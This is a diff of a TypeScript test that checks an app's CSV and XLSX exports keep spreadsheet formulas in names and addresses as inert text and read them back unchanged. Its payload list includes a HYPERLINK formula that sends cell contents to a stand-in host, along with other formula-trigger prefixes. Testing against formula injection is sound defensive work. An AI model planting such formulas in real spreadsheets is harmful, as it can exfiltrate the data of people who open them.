@@ -1,6 +1,11 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import { test } from '@japa/runner'
+import { streamXlsxRows } from 'hucre/xlsx'
 import { v7 as uuid } from 'uuid'
 import { clock } from '#services/clock'
+import { openCsv } from '#services/documents/csv_reader'
 import { runAndWait } from '#services/jobs/run_and_wait'
 import { query } from '#services/scope'
 import { requestExport } from '#verification/lists/export_job'
@@ -8,6 +13,9 @@ import { periodFor } from '#verification/periods/index'
 import { household } from '#tests/functional/imports/support'
 import { openOffice, type Office } from '#tests/functional/review/support'
 import { supervisorOf } from '#tests/support/people'
+import { unzip } from '#tests/unit/documents/support'
+
+const FORMULAS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', '+62811000000', '-UJI', '@SUM(1,1)', '\t=1+1', '\r=1+1']
 
 const ask = (office: Office, village: string) =>
   office.act(async (tx) => {
@@ -51,13 +59,40 @@ test.group('Exports in the background', (group) => {
     }
   })
 
-  test('a name that is a formula stays text in both formats', async ({ client, assert }) => {
-    const name = '=HYPERLINK("http://contoh.invalid","klik")'
-    const office = await openOffice(([village]) => [household('K1', village!, 1, { nama_krt: name, alamat: '+62811000000' })])
-    const csv = await client.get('/bdt/perbaikan/unduh.csv').loginAs(office.supervisor)
-    assert.include(csv.text(), `"'=HYPERLINK(""http://contoh.invalid"",""klik"")"`)
-    assert.include(csv.text(), `'+62811000000`)
-    const xlsx = await client.get('/bdt/perbaikan/unduh.xlsx').loginAs(office.supervisor)
-    xlsx.assertHeader('content-type', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
+  test('names and addresses that a spreadsheet would run stay text in both formats, and come back as they were (S17)', async ({
+    client,
+    assert,
+  }) => {
+    const office = await openOffice(([village]) =>
+      FORMULAS.map((text, n) => household(`K${n}`, village!, n + 1, { nama_krt: text, alamat: `${text} 7` })),
+    )
+    const csv = Buffer.from((await client.get('/bdt/perbaikan/unduh.csv').loginAs(office.supervisor)).text())
+    const guarded = csv.toString().split('\r\n').slice(1)
+    for (const text of FORMULAS)
+      assert.isTrue(
+        guarded.some((line) => line.includes(`"'${text.replaceAll('"', '""')}`)),
+        text,
+      )
+    const folder = await mkdtemp(join(tmpdir(), 'siks-unduh-'))
+    await writeFile(join(folder, 'unduh.csv'), csv)
+    const table = await openCsv(join(folder, 'unduh.csv'))
+    const back: string[][] = []
+    for await (const { cells } of table.rows) back.push([cells[1]!, cells[3]!])
+    await rm(folder, { recursive: true })
+    assert.sameDeepMembers(
+      back,
+      FORMULAS.map((text) => [text, `${text} 7`]),
+    )
+
+    const answer = await client.get('/bdt/perbaikan/unduh.xlsx').loginAs(office.supervisor)
+    answer.assertHeader('content-type', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
+    const bytes = answer.body() as Buffer
+    assert.notInclude((await unzip(bytes)).get('xl/worksheets/sheet1.xml')!.toString(), '<f')
+    const cells: unknown[][] = []
+    for await (const { values } of streamXlsxRows(bytes)) cells.push([values[1], values[3], typeof values[8]])
+    assert.sameDeepMembers(
+      cells.slice(1),
+      FORMULAS.map((text) => [text, `${text} 7`, 'number']),
+    )
   })
 })
